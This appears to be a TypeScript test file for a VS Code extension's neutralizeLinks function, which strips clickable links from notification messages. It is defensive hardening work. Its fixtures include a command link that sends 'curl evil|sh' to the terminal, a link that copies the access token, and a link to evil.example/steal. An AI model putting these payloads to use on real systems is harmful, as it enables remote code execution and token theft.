import * as assert from 'node:assert/strict';

import fc from 'fast-check';

import { formatMessage } from '../../../src/common/localize';
import { neutralizeLinks } from '../../../src/common/plainText';
import { describeError } from '../../../src/wechat/errors';
import { hardeningCase } from '../../hardening/ledger';

// How VS Code finds links in a notification's message (vs/base/common/linkedText.ts, 1.139): this
// test's model of the renderer. It has no escapes and knows no `<…>` autolinks.
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text: string): string[] => [...text.matchAll(NOTIFICATION_LINK)].map((match) => match[2] ?? '');
const visible = (text: string): string => text.replace(/\u200b/g, '');

const HOSTILE_FILE = '[Open settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D).json';
const HOSTILE_ACCOUNT = 'Shop [click](command:wechat.copyAccessToken "Copy")';
const HOSTILE_ERRMSG = 'invalid appid [details](https://evil.example/steal) rid: 64f1c2a3-1b2c3d4e-5f6a7b8c';

describe('common/plainText: neutralizeLinks', () => {
  it('the model of the renderer finds the links it should (the test itself works)', () => {
    assert.deepEqual(links(HOSTILE_FILE), ['command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D']);
    assert.deepEqual(links(HOSTILE_ACCOUNT), ['command:wechat.copyAccessToken']);
    assert.deepEqual(links(HOSTILE_ERRMSG), ['https://evil.example/steal']);
  });

  it('a hostile file name, account name or server text (errmsg) in a message makes no link and reads the same', () =>
    hardeningCase('hostile', 'notification link in an interpolated value', () => {
      const messages = [
        formatMessage('Menu file {0} is not valid JSON.', HOSTILE_FILE),
        formatMessage('Switched to {0}.', HOSTILE_ACCOUNT),
        `${formatMessage('Could not copy the access token')}: ${describeError(new Error(`the token service answered: ${HOSTILE_ERRMSG}`))}`,
      ];
      for (const message of messages) {
        assert.ok(links(message).length > 0, `the unprotected message has a link: ${message}`);
        const safe = neutralizeLinks(message);
        assert.deepEqual(links(safe), [], safe);
        assert.equal(visible(safe), message);
      }
    }));

  it('no string whatever becomes a link; the visible text is unchanged (property)', () => {
    const linkish = fc
      .array(fc.constantFrom('[', ']', '(', ')', 'command:x', 'https://e', 'file:/a', ' ', '"t"', 'a'), { maxLength: 24 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.oneof(linkish, fc.string()), (text) =>
        hardeningCase('hostile', 'notification link (property)', () => {
          const input = visible(text);
          const safe = neutralizeLinks(input);
          assert.deepEqual(links(safe), []);
          assert.equal(visible(safe), input);
        }),
      ),
      { numRuns: 500 },
    );
  });

  it('text without "](" is left exactly as it is', () => {
    assert.equal(neutralizeLinks('menu[1].json (draft) <https://a.b>'), 'menu[1].json (draft) <https://a.b>');
  });
});
